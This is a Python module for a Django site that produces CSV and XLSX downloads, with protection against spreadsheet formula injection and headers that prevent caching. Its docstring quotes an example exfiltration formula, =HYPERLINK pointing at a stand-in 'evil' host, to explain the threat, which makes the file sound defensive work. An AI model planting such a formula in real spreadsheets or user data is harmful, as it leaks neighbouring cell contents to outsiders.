"""Spreadsheet downloads (CSV and XLSX) that are safe to open in Excel or LibreOffice.

Every export of the site goes through here, so that two things are never forgotten:

* **Formula injection.** A cell whose text starts with ``=``, ``+``, ``-`` or ``@``
  (or a tab or carriage return, or the full-width forms ``＝＋－＠`` that some
  spreadsheet programs also accept) is run as a formula when the file is opened:
  ``=HYPERLINK("http://evil/?"&A1)`` could send a neighbouring cell to a stranger.
  :func:`safe_cell` prefixes such text with a single quote (the OWASP advice),
  which the spreadsheet shows as text. Numbers like ``-2`` are therefore shown
  as ``'-2``: a small cost for never running a formula.
* **Privacy of the download.** Responses are attachments, marked ``no-store``
  so no browser or proxy keeps a copy, and ``nosniff``.

Usage, from any view that has already checked permission::

    from config.exports import csv_response, xlsx_response

    header = [_("Reference"), _("State")]
    rows = ((case.reference, case.get_state_display()) for case in cases)
    return csv_response("ho-so.csv", header, rows)

``rows`` is any iterable of sequences; values may be of any type (``None`` becomes
an empty cell, everything else ``str()``). Filenames must not carry case data.
This module knows nothing about cases: it lives in ``config`` so that both faces
of the site may use it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Any

from django.http import HttpResponse
from django.utils.http import content_disposition_header

__all__ = ["FORMULA_PREFIXES", "csv_response", "safe_cell", "xlsx_response"]

FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def safe_cell(value: Any) -> str:
    """``value`` as text that a spreadsheet shows and never evaluates."""
    if value is None:
        return ""
    text = str(value)
    if text.startswith(FORMULA_PREFIXES):
        return "'" + text
    return text


def download_response(content: bytes, content_type: str, filename: str) -> HttpResponse:
    """An attachment no cache keeps and no browser sniffs: every download of the site."""
    response = HttpResponse(content, content_type=content_type)
    response["Content-Disposition"] = content_disposition_header(
        as_attachment=True, filename=filename
    )
    response["Cache-Control"] = "no-store, private"
    response["X-Content-Type-Options"] = "nosniff"
    return response


def csv_response(
    filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]]
) -> HttpResponse:
    """A CSV attachment, UTF-8 with a byte-order mark so Excel reads Vietnamese correctly."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(value) for value in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    content = buffer.getvalue().encode("utf-8-sig")
    return download_response(content, "text/csv; charset=utf-8", filename)


def xlsx_response(
    filename: str, header: Sequence[Any], rows: Iterable[Sequence[Any]], *, title: str = ""
) -> HttpResponse:
    """An XLSX attachment whose every cell is a text cell, through :func:`safe_cell`.

    Text cells are not evaluated by Excel, but a user editing a cell and pressing
    Enter turns it into a formula, and other programs differ: hence the prefix too.
    """
    # Imported here: only exports need openpyxl.
    from openpyxl import Workbook
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    def cells(values: Sequence[Any]) -> list[str]:
        # Control characters XLSX cannot hold are dropped rather than failing the export.
        return [ILLEGAL_CHARACTERS_RE.sub("", safe_cell(value)) for value in values]

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet(title=(title or "Sheet1")[:31])
    sheet.append(cells(header))
    for row in rows:
        sheet.append(cells(row))
    buffer = io.BytesIO()
    workbook.save(buffer)
    return download_response(buffer.getvalue(), XLSX_CONTENT_TYPE, filename)
